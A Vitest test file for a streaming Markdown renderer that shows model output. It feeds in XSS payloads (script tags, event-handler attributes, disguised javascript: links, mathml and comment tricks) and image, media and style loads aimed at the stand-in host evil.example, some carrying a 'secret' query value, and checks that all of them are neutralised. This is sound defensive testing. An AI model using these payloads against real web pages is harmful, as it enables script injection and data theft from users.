// @vitest-environment jsdom
import { render } from "@testing-library/react";
import { describe, expect, it, vi } from "vitest";
import { splitBlocks } from "@/components/playground/blocks";
import { Markdown } from "@/components/playground/markdown";
import { expectNoAxeViolations, standInForBrowser } from "../ui/page";

standInForBrowser();

const show = (text: string, live = false) => render(<Markdown text={text} live={live} />).container;

const scripts: Record<string, string> = {
  "a script": "<script>window.hit = 1</script>",
  "a script in a paragraph": "text <script src=//evil.example/x.js></script> text",
  "an image that fails": "<img src=x onerror='window.hit=1'>",
  "an svg with a handler": "<svg onload=window.hit=1><circle/></svg>",
  "an svg with a script": "<svg><script>window.hit=1</script></svg>",
  mathml: "<math><mtext><style><img src=x onerror=window.hit=1></style></mtext></math>",
  "a details with a handler": "<details open ontoggle=window.hit=1>x</details>",
  "a body with a handler": "<body onload=window.hit=1>",
  "an iframe of script": "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
  "a form": "<form action=javascript:window.hit=1><button>x</button></form>",
  "a style": "<style>*{background:url(//evil.example/s)}</style>",
  "a javascript link": "[x](javascript:window.hit=1)",
  "a javascript link in disguise":
    "[x](java\tscript:window.hit=1) [y](&#106;avascript:window.hit=1) [z](JaVaScRiPt:window.hit=1)",
  "a javascript autolink": "<javascript:window.hit=1>",
  "a vbscript link": "[x](vbscript:msgbox)",
  "a data link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "a javascript reference": "[x][1]\n\n[1]: javascript:window.hit=1",
  "a handler in a link's title": '[x](https://a.example "\\" onmouseover=window.hit=1")',
  "a comment that closes early": "<!--><img src=x onerror=window.hit=1>-->",
  "markup in a code fence's name": "```<img/src=x/onerror=window.hit=1>\nx\n```",
};

const loads: Record<string, string> = {
  "an image": "![a](https://evil.example/a.png?secret=1)",
  "an image by reference": "![a][1]\n\n[1]: https://evil.example/b.png",
  "an image in a link": "[![a](https://evil.example/c.png)](https://a.example)",
  "a data image": "![a](data:image/svg+xml,<svg onload=alert(1)>)",
  "an image element": "<img src=https://evil.example/d.png srcset=https://evil.example/e.png>",
  "a picture": "<picture><source srcset=https://evil.example/f.png></picture>",
  "a video and a sound":
    "<video src=https://evil.example/g.mp4 poster=https://evil.example/h.png></video><audio src=https://evil.example/i.mp3>",
  "an object, an embed and a frame":
    "<object data=https://evil.example/j></object><embed src=https://evil.example/k><iframe src=https://evil.example/l></iframe>",
  "a stylesheet, a prefetch and a refresh":
    "<link rel=stylesheet href=https://evil.example/m><link rel=prefetch href=https://evil.example/n><meta http-equiv=refresh content='0;https://evil.example/o'>",
  "a background":
    "<p style='background:url(https://evil.example/p)'>x</p><table background=https://evil.example/q></table>",
};

const allowed = new Set(
  "DIV P BR HR H3 H4 H5 H6 BLOCKQUOTE PRE CODE SPAN STRONG EM DEL A UL OL LI TABLE THEAD TBODY TR TH TD SUP SECTION BUTTON svg path".split(
    " ",
  ),
);

function expectHarmless(container: HTMLElement): void {
  for (const element of container.querySelectorAll("*")) {
    expect(allowed).toContain(element.tagName);
    for (const { name, value } of element.attributes) {
      expect(name).not.toMatch(/^on|^src|^style$|^srcdoc$|^background$|^poster$|^id$/);
      if (name === "href") expect(value).toMatch(/^(https?|mailto):/);
    }
  }
  expect((window as { hit?: number }).hit).toBeUndefined();
}

describe("what a model writes", () => {
  for (const [name, text] of Object.entries(scripts)) {
    it(`runs nothing: ${name}`, () => expectHarmless(show(text)));
  }

  for (const [name, text] of Object.entries(loads)) {
    it(`loads nothing: ${name}`, () => {
      const image = vi.spyOn(window, "Image");
      const container = show(text);
      expectHarmless(container);
      expect(
        container.querySelector("img, picture, video, audio, iframe, object, embed, link, meta"),
      ).toBeNull();
      expect(image).not.toHaveBeenCalled();
    });
  }

  it("stays harmless cut anywhere, as it streams", () => {
    const text = Object.values({ ...scripts, ...loads }).join("\n\n");
    for (let at = 1; at < text.length; at += 97) {
      const { container, unmount } = render(<Markdown text={text.slice(0, at)} live />);
      expectHarmless(container);
      unmount();
    }
  });

  it("says where an image would have come from", () => {
    expect(show("![chart](https://evil.example/a.png)").textContent).toBe(
      "[image not loaded: chart, https://evil.example/a.png]",
    );
  });

  it("shows raw HTML as the text it is", () => {
    expect(show("Use <b>bold</b> and <br>.").textContent).toBe("Use <b>bold</b> and <br>.");
  });

  it("writes the address beside a link and opens it without a way back", () => {
    const link = show("[Bank](https://evil.example/login)").querySelector("a");
    expect(link?.textContent).toBe("Bank (https://evil.example/login)");
    expect(link?.rel.split(" ")).toEqual(expect.arrayContaining(["noopener", "noreferrer"]));
    expect(link?.target).toBe("_blank");
  });

  it("keeps what Markdown is for", async () => {
    const container = show(
      "# Title\n\nA **bold** word, `code`.\n\n1. one\n2. two\n   - inner\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n\n```ts\nconst a = 1;\n```\n",
    );
    expect(container.querySelector("h3")?.textContent).toBe("Title");
    expect(container.querySelector("strong")?.textContent).toBe("bold");
    expect(container.querySelectorAll("ol > li")).toHaveLength(2);
    expect(container.querySelectorAll("td")).toHaveLength(2);
    expect(container.querySelector("pre")?.textContent).toBe("const a = 1;");
    expect(container.textContent).toContain("☑ done");
    await expectNoAxeViolations();
  });

  it("ends in the caret while it is written, wherever the text ends", () => {
    for (const text of ["Words", "- one\n- two", "> quoted", "| a |\n|---|\n| 1 |", "# Head", "```\ncode"]) {
      const { container, unmount } = render(<Markdown text={text} live />);
      expect(container.querySelectorAll('[aria-hidden="true"].bg-gold')).toHaveLength(1);
      unmount();
      expect(show(text).querySelector(".bg-gold")).toBeNull();
    }
    const end = show("one\n\ntwo", true).querySelector("p:last-child");
    expect(end?.lastElementChild?.className).toContain("bg-gold");
  });
});

describe("splitting a stream into pieces", () => {
  const texts = [
    "one\n\ntwo\n\n\nthree",
    "- a\n\n- b\n\n  more of b\n\nafter",
    "1. a\n\n   ```\n   code\n\n   more\n   ```\n\n2. b\n\nafter",
    "```\na\n\nb\n```\n\nafter",
    "~~~~\n```\n\n~~~\n\n~~~~\nafter",
    "",
    "\n\n",
  ];

  it("loses nothing", () => {
    for (const text of texts) expect(splitBlocks(text).join("")).toBe(text);
  });

  it("cuts at blank lines, and not inside a fence or a list", () => {
    expect(texts.map((text) => splitBlocks(text).length)).toEqual([3, 2, 2, 2, 1, 0, 1]);
  });

  it("leaves all but the last two pieces as they were when text is added", () => {
    const text = texts.slice(0, 4).join("\n\n");
    let before: string[] = [];
    for (let at = 1; at <= text.length; at++) {
      const blocks = splitBlocks(text.slice(0, at));
      expect(blocks.slice(0, Math.max(0, before.length - 2))).toEqual(before.slice(0, -2));
      before = blocks;
    }
  });
});
